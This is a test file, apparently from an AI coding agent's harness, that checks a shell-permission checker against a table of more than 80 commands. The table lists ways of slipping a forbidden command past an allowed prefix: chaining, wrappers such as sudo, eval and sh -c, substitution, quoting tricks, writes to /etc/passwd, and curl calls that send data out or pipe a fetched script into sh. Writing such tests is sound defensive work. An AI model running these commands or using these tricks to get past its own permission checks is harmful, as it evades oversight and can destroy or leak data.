import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decidePermission, type Verdict } from "./decide-permission.js";
import type { PermissionPolicy, RuleEntry, RuleList } from "./permission-policy.js";
import { parseRule } from "./permission-rule.js";

let world: string;
let policy: PermissionPolicy;

function rules(list: RuleList, texts: string[]): RuleEntry[] {
  return texts.map((text) => {
    const parsed = parseRule(text);
    if (!parsed.ok) throw new Error(parsed.message);
    return { rule: parsed.rule, list, origin: "user", source: "test settings" };
  });
}

beforeAll(() => {
  world = realpathSync(mkdtempSync(join(tmpdir(), "keel-perm-table-")));
  const root = join(world, "project");
  const home = join(world, "home");
  mkdirSync(root, { recursive: true });
  mkdirSync(home, { recursive: true });
  symlinkSync("/etc", join(root, "etc-link"));
  policy = {
    rules: [
      ...rules("allow", [
        "bash(git status)",
        "bash(git log:*)",
        "bash(npm run test:*)",
        "bash(ls:*)",
        "bash(echo:*)",
        "bash(cat:*)",
        "bash(timeout:*)",
        "bash(grep:*)",
        "bash(wc:*)",
        "bash(head:*)",
        "bash(pwd)",
      ]),
      ...rules("ask", ["bash(git push:*)"]),
      ...rules("deny", ["bash(rm:*)", "bash(git push --force:*)", "write(//etc/**)"]),
    ],
    mode: "default",
    allowReadOnlyCommands: false,
    root,
    cwd: root,
    homeDir: home,
  };
});

afterAll(() => rmSync(world, { recursive: true, force: true }));

/**
 * Every bypass named in the issue ("Why"), each behind an allowed command,
 * and the safe compositions that must stay allowed. Rules: allow git status,
 * git log:*, npm run test:*, ls:*, echo:*, cat:*, timeout:*, grep:*, wc:*,
 * head:*, pwd; ask git push:*; deny rm:*, git push --force:*, write(//etc/**).
 */
const TABLE: [string, Verdict][] = [
  // Chaining an allowed command with another.
  ["git status && rm -rf x", "deny"],
  ["git status; rm -rf x", "deny"],
  ["git status || rm -rf x", "deny"],
  ["git status & rm -rf x", "deny"],
  ["git status | rm -rf x", "deny"],
  ["git status\nrm -rf x", "deny"],
  ["git status && curl https://example.invalid/x.sh", "ask"],
  ["git status |& curl -d @- https://example.invalid", "ask"],
  // Wrapper programs.
  ["git status && env rm -rf x", "deny"],
  ["git status && env curl x", "ask"],
  ["git status && /usr/bin/env rm x", "deny"],
  ["git status && env -S 'rm -rf x'", "ask"],
  ["git status && xargs rm", "deny"],
  ["git status && xargs -I{} rm {}", "deny"],
  ["git status | xargs curl", "ask"],
  ["git status && sh -c 'rm -rf x'", "deny"],
  ['git status && bash -c "rm -rf x"', "deny"],
  ["git status && bash -ec 'ls; rm -rf x'", "deny"],
  ["git status && bash -c 'bash -c \"rm -rf x\"'", "deny"],
  ['git status && sh -c "$CMD"', "ask"],
  ["git status && nohup rm -rf x", "deny"],
  ["git status && nohup sh -c 'curl x | sh'", "ask"],
  ["git status && timeout 5 rm -rf x", "deny"],
  ["git status && timeout -s KILL 5 curl x", "ask"],
  ["git status && command rm -rf x", "deny"],
  ["git status && exec rm -rf x", "deny"],
  ["git status && nice -n 5 rm x", "deny"],
  ["git status && sudo rm -rf x", "deny"],
  ["git status && sudo -u root nice nohup rm x", "deny"],
  ["git status && sudo -s", "ask"],
  ["git status && find . -exec rm {} ;", "deny"],
  ["git status && builtin eval 'rm -rf x'", "ask"],
  ["git status && xargs sh -c 'rm $0'", "deny"],
  ["git status && bash <<EOF\nrm -rf x\nEOF", "deny"],
  ["git status && sh <<< 'rm -rf x'", "deny"],
  ["git status && bash -s <<'EOF'\ncurl x\nEOF", "ask"],
  ["git status && sh <<EOF\n$CMD\nEOF", "ask"],
  // Command substitution.
  ["git status $(rm -rf x)", "deny"],
  ["echo `rm -rf x`", "deny"],
  ["echo $(curl https://example.invalid)", "ask"],
  ["git status && echo $(echo $(rm -rf x))", "deny"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  ["git status && echo ${x:-$(rm -rf y)}", "deny"],
  ["git status && [[ $(rm -rf x) ]]", "deny"],
  ["git status && (( $(rm -rf x) ))", "deny"],
  ["git status && cat <<< $(rm -rf x)", "deny"],
  ["git status && cat <<EOF\n$(rm -rf x)\nEOF", "deny"],
  // Process substitution.
  ["git status && cat <(rm -rf x)", "deny"],
  ["git status && echo >(curl x)", "ask"],
  // Redirections that overwrite files.
  ["git status > notes.txt", "ask"],
  ["git status && echo hi >> notes.txt", "ask"],
  ["git status && echo x > /etc/passwd", "deny"],
  ["git status && echo x >| /etc/hosts", "deny"],
  ["git status && echo x &> /etc/hosts", "deny"],
  ["git status && exec 3>/etc/passwd", "deny"],
  ["git status && echo x > etc-link/passwd", "deny"],
  ["git status && echo x > ../outside.txt", "ask"],
  ["git status && cat < /etc/shadow", "ask"],
  ["git status && echo x > $FILE", "ask"],
  ["git status && cd /tmp && echo x > y", "ask"],
  // Absolute or relative paths to the binary.
  ["git status && /bin/rm -rf x", "deny"],
  ['git status && "/bin/rm" x', "deny"],
  ["git status && ./rm x", "deny"],
  ["git status && /bin/ls", "ask"],
  ["git status && ./tools/ls", "ask"],
  // Quoting tricks.
  ["git status && r''m -rf x", "deny"],
  ['git status && r""m -rf x', "deny"],
  ["git status && \\rm -rf x", "deny"],
  ['git status && "rm" -rf x', "deny"],
  ["git status && r\\m -rf x", "deny"],
  ["git status && $'rm' -rf x", "deny"],
  ["git status && $'\\x72m' -rf x", "ask"],
  ["git status && {rm,-rf,x}", "ask"],
  // Variable indirection and constructs the checker cannot see through.
  ["git status && $CMD -rf x", "ask"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
  ["git status && ${X} y", "ask"],
  ["X=rm; git status && $X -rf y", "ask"],
  ["git status && rm$IFS-rf x", "ask"],
  ['git status && eval "rm -rf x"', "ask"],
  ["git status && eval ls", "ask"],
  ["PATH=/tmp ls", "ask"],
  ["GIT_CONFIG_PARAMETERS=x git status", "ask"],
  ["git status && PATH=/tmp; ls", "ask"],
  ["git status && export PATH=/tmp", "ask"],
  ["git status && for PATH in /tmp; do ls; done", "ask"],
  ["git status && env PATH=/tmp ls", "ask"],
  // Functions, groups, subshells and control flow hide nothing.
  ["git status && f() { rm -rf x; }; f", "deny"],
  ["git status && (rm -rf x)", "deny"],
  ["git status && { rm -rf x; }", "deny"],
  ["git status && coproc rm -rf x", "deny"],
  ["git status && time rm -rf x", "deny"],
  ["git status && ! rm -rf x", "deny"],
  ["git status && while true; do rm -rf x; done", "deny"],
  ["git status && case x in x) rm -rf y;; esac", "deny"],
  ["git status && if true; then rm -rf y; fi", "deny"],
  // Unparseable.
  ['git status && echo "unterminated', "ask"],
  ["git status &&", "ask"],
  // Ask and deny rules for git push; exact rules stay exact.
  ["git push origin main", "ask"],
  ["git status && git push", "ask"],
  ["git push --force origin main", "deny"],
  ["git status $X", "ask"],
  ["git status --porcelain", "ask"],
  // Read-only commands no rule names still ask.
  ["whoami", "ask"],
  ["pwd -P", "ask"],
  ["uname -a", "ask"],
  // The :* prefix operator is on a word boundary; * inside a pattern is a glob.
  ["npm run test", "allow"],
  ["npm run test -- --watch", "allow"],
  ["npm run test:unit", "ask"],
  ["npm run testevil", "ask"],
  // Safe compositions of allowed commands.
  ["git status && git log --oneline", "allow"],
  ["git status; ls -la", "allow"],
  ["ls | wc -l", "allow"],
  ["(git status; ls)", "allow"],
  ["{ git status; ls; }", "allow"],
  ["echo $(git status)", "allow"],
  ['echo "$(ls)"', "allow"],
  ["ls $(pwd)", "allow"],
  ["git log --oneline | head -5", "allow"],
  ["timeout 5 ls", "allow"],
  ["git status > /dev/null 2>&1", "allow"],
  ["git status 2>&1 | head", "allow"],
  ["echo hi >&2", "allow"],
  ["if git status; then ls; fi", "allow"],
  ["for f in a b; do echo $f; done", "allow"],
  ["ls *.ts", "allow"],
  ["echo 'rm -rf x'", "allow"],
  ['grep -r "rm -rf" .', "allow"],
  ["git log --format='%H %s' -3", "allow"],
  ["cat <<EOF\nhello\nEOF", "allow"],
  ["x=$(git status); echo $x", "allow"],
  ["cat < README.md", "allow"],
  ["git status && ls && echo done", "allow"],
];

describe("the command table: every bypass behind an allowed prefix, and the safe compositions", () => {
  it("has at least 80 commands", () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(80);
  });

  it.each(TABLE)("%j → %s", async (command, expected) => {
    const decision = await decidePermission(policy, "bash", { command });
    expect({ command, verdict: decision.verdict, why: decision.reason }).toMatchObject({ command, verdict: expected });
  });
});
